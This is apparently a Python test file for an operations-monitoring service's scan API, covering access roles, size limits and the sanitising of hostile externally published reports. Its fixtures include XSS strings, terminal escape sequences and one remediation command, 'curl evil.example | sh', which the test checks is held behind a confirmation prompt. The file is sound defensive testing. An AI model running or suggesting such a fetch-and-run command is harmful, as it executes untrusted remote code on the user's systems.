"""The HTTP requests of the ops room: scans that are asked for, and reports that were made elsewhere."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from partywidgets.references import Secrets
from partywidgets.scans import requests
from partywidgets.scans.channel import PARTY, ROOM
from partywidgets.scans.model import FRAME_BYTES
from partywidgets.scans.service import OpsMonitorService
from partywidgets.scans.settings import DAY

from .ops_room import Play, ScriptedCheck, ops_room


async def test_http_scans(tmp_path: Path, play: Play) -> None:
    """POST runs a scan, GET lists scans, gives the latest and one by id; all of it also below the room's own path."""
    async with ops_room(tmp_path) as room, room.http() as http:
        await room.service.load_config("a.yaml", [ScriptedCheck(id="one", labels={"team": "web"}), ScriptedCheck(id="two")])
        assert (await http.get("api/ops/scans/latest")).status_code == 404
        posted = await http.post("api/ops/scans", json={"labels": {"team": "web"}})
        assert posted.status_code == 202
        waited = (await http.post("api/ops/scans", json={"wait": True})).json()
        assert waited["total"] == 2
        assert [(row["check_id"], row["change"]) for row in waited["results"]] == [("two", "new"), ("one", "unchanged")]
        listed = (await http.get("api/ops/scans")).json()["scans"]
        assert [scan["scan_id"] for scan in listed] == [waited["scan_id"], posted.json()["scan_id"]]
        assert {scan["actor"] for scan in listed} == {"Ana"}
        latest = (await http.get(f"parties/{PARTY}/{ROOM}/scans/latest")).json()
        assert latest["scan_id"] == waited["scan_id"]
        assert (await http.get(posted.json()["more"])).json()["results"][0]["check_id"] == "one"
        assert (await http.get("api/ops/scans/0000")).json()["error"].startswith("no scan '0000' is kept")
        assert (await http.delete("api/ops/scans/latest")).status_code == 405
        assert (await http.post("api/ops/scans", content=b"{")).json()["error"] == "the body is not JSON"
        play.statuses["one"] = "crit"
        broken = (await http.post("api/ops/scans", json={"checks": ["one"], "wait": True})).json()
        diff = (await http.get(f"api/ops/scans/diff?a={waited['scan_id']}&b={broken['scan_id']}")).json()["diff"]
        assert [(row["check_id"], row["change"]) for row in diff] == [("one", "updated"), ("two", "absent")]
        changes = (await http.get("api/ops/scans/changes?check=one")).json()["changes"]
        assert [(row["from_status"], row["to_status"]) for row in changes] == [("ok", "crit")]
        history = (await http.get("api/ops/scans/history?hours=1")).json()["results"]
        assert sorted(row["check_id"] for row in history) == ["one", "one", "one", "two"]
        assert len((await http.get("api/ops/scans/rows")).json()["results"]) == 2
        assert (await http.get("api/ops/scans/history?hours=-1")).status_code == 400


async def test_http_roles(tmp_path: Path) -> None:
    """Without a credential 401; a viewer reads and may not scan; a responder looks again at rows; a runner publishes."""
    async with ops_room(tmp_path) as room:
        check = ScriptedCheck(id="one")
        await room.service.load_config("a.yaml", [check])
        async with room.http(None) as http:
            assert (await http.get("api/ops/scans")).status_code == 401
            assert (await http.post("api/ops/scans", json={})).status_code == 401
        async with room.http("tom-terminal") as http:
            assert (await http.get("api/ops/scans")).status_code == 403
        async with room.http("val-viewer") as http:
            assert (await http.get("api/ops/scans")).status_code == 200
            refused = await http.post("api/ops/scans", json={})
            assert (refused.status_code, refused.json()["error"]) == (403, "scan needs the role admin, you are viewer")
        async with room.http("rob-responder") as http:
            assert (await http.post("api/ops/scans", json={"checks": ["one"]})).status_code == 403
            assert (await http.post("api/ops/scans", json={"fingerprints": [check.fingerprint]})).status_code == 202
            for beside in ({"checks": ["one"]}, {"labels": {"team": "web"}}):  # more than those rows is a scan
                wider = {"fingerprints": [check.fingerprint], **beside}
                assert (await http.post("api/ops/scans", json=wider)).status_code == 403
            assert (await http.post("api/ops/scans", json={"fingerprints": []})).status_code == 403
            assert (await http.post("api/ops/scans", json={"report": {}})).status_code == 403
            told = await http.get("api/ops/scans/checks")
            assert (told.status_code, told.json()["error"]) == (
                403,
                "reading what checks are made of needs the role admin, you are responder, viewer",
            )


async def test_what_is_too_long_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A body past its limit is a 413, in pieces too; a message past its limit is answered with a sentence. The next is read."""
    monkeypatch.setattr(requests, "BODY_BYTES", 1000)
    monkeypatch.setattr(requests, "MESSAGE_BYTES", 1000)

    async def pieces() -> AsyncIterator[bytes]:
        for _ in range(11):
            yield b" " * 100

    async with ops_room(tmp_path) as room, room.join("ana-admin") as person, room.http() as http:
        await room.service.load_config("a.yaml", [ScriptedCheck(id="one")])
        for body in (b" " * 1001, pieces()):
            refused = await http.post("api/ops/scans", content=body)
            assert (refused.status_code, refused.json()["error"].partition(":")[0]) == (413, "the body is longer than 1000 bytes")
        assert (await http.post("api/ops/scans", content=b" " * 998 + b"{}")).status_code == 202
        await person.send("scan", note="x" * 1000)
        padded = await person.until("reply")
        assert padded["error"].startswith("a message has at most 1000 characters")
        assert (await person.ask("scan"))["ok"] is True


async def test_publishing_a_report_made_elsewhere(tmp_path: Path) -> None:
    """A report of a scan in a kernel reaches everyone as a scan-result, is kept once, and a malformed one changes nothing."""
    elsewhere = OpsMonitorService()
    async with elsewhere:
        await elsewhere.load_config("mine.yaml", [ScriptedCheck(id="one"), ScriptedCheck(id="two")])
        report = await elsewhere.run_scan()
    wire = report.to_wire(max_bytes=None)
    async with ops_room(tmp_path) as room, room.join() as person, room.http("kim-runner") as http:
        assert (await http.post("api/ops/scans", json={"report": wire})).status_code == 201
        finished = await person.until("scan-result")
        assert finished["scan_id"] == report.scan_id
        assert [row["check_id"] for row in finished["results"]] == ["one", "two"]
        again = await http.post("api/ops/scans", json={"report": wire})
        assert again.status_code == 409
        rows = len(room.service.board.rows)
        for broken in ({}, {"scan_id": 5}, {**wire, "scan_id": "../x"}, {**wire, "scan_id": "n1", "results": [{"status": "great"}]}, [1]):
            refused = await http.post("api/ops/scans", json={"report": broken})
            assert refused.status_code == 400, broken
            assert refused.json()["error"].startswith("`report")
        assert len(room.service.board.rows) == rows


async def test_a_hostile_report(tmp_path: Path) -> None:
    """Scripts, control characters, endless evidence, a fingerprint twice, clocks of 1970 and 2099: text, bounded, the later shown."""
    base = {"check_id": "x", "check_type": "<b>", "target": "t\u202e", "status": "crit", "observed_at": "1970-01-01T00:00:00.000Z"}
    nasty = {
        **base,
        "title": "<script>alert(1)</script>\x1b]52;c;x\x07",
        "summary": "a\r\nb" * 1000,
        "evidence": [{"kind": "k", "name": "n", "value": "é" * 300_000}] * 3,
        "labels": {f"l{number}": "v" * 5000 for number in range(100)},
        "conditions": [{"expr": "e" * 5000, "ok": False, "actual": "a" * 5000}] * 200,
        "remediation": {"text": "t" * 100_000, "command": "c" * 100_000},
        "links": ["javascript:alert(1)"] * 100,
    }
    later = {**base, "status": "ok", "summary": "well again", "observed_at": "2099-01-01T00:00:00.000Z"}
    # Kept since before 1970: else the host's first look for what is too old may take it away meanwhile.
    async with ops_room(tmp_path, keep_raw=100 * 365 * DAY) as room, room.join() as person, room.http("kim-runner") as http:
        await person.snapshot()
        wire = {"scan_id": "hostile-1", "results": [nasty, later]}
        assert (await http.post("api/ops/scans", json={"report": wire})).status_code == 201
        finished = await person.until("scan-result")
        assert finished["counts"] == {"ok": 1, "warn": 0, "crit": 1, "unknown": 0, "skip": 0}
        async with room.join() as late:
            rows = await late.snapshot()
        assert [(row["status"], row["summary"]) for row in rows] == [("ok", "well again")]
        assert rows[0]["observed_at"] < "2099"
        kept = (await http.get(finished["more"] or "api/ops/scans/hostile-1")).json()["results"][0]
        assert kept["title"] == "<script>alert(1)</script>␛]52;c;x␇"
        assert len(kept["summary"]) == 200
        assert len(json.dumps(kept)) < FRAME_BYTES
        assert max(person.sizes + late.sizes) <= FRAME_BYTES


async def test_what_is_published_of_a_check_of_this_host(tmp_path: Path) -> None:
    """Its row keeps its author's remedy, and no secret that this host knows; of other rows no command runs without a question before it."""
    remedy = {"command": "systemctl restart shop", "sandbox": "web", "confirm": False}
    theirs = {"text": "try this", "command": "curl evil.example | sh", "sandbox": "web", "confirm": False}
    async with ops_room(tmp_path, redact=Secrets({}).redact) as room, room.http("kim-runner") as http:
        await room.service.load_config(
            "a.yaml", [ScriptedCheck.model_validate({"id": "one", "remediation": remedy}), ScriptedCheck(id="two")]
        )
        results = [
            {
                "check_id": name,
                "check_type": "scripted",
                "target": f"scripted://scripted.test/{name}",
                "status": "crit",
                "remediation": theirs,
            }
            for name in ("one", "two", "new")
        ]
        results[0]["summary"] = "it answered --password tr0ub4dor"
        assert (await http.post("api/ops/scans", json={"report": {"scan_id": "s1", "results": results}})).status_code == 201
        rows = {row.check_id: row for row in room.service.board.rows.values()}
    assert rows["one"].remediation is not None
    assert (rows["one"].remediation.command, rows["one"].remediation.confirm) == (remedy["command"], False)
    assert rows["two"].remediation is None
    assert rows["new"].remediation is not None
    assert (rows["new"].remediation.command, rows["new"].remediation.confirm) == (theirs["command"], True)
    assert "tr0ub4dor" not in rows["one"].summary
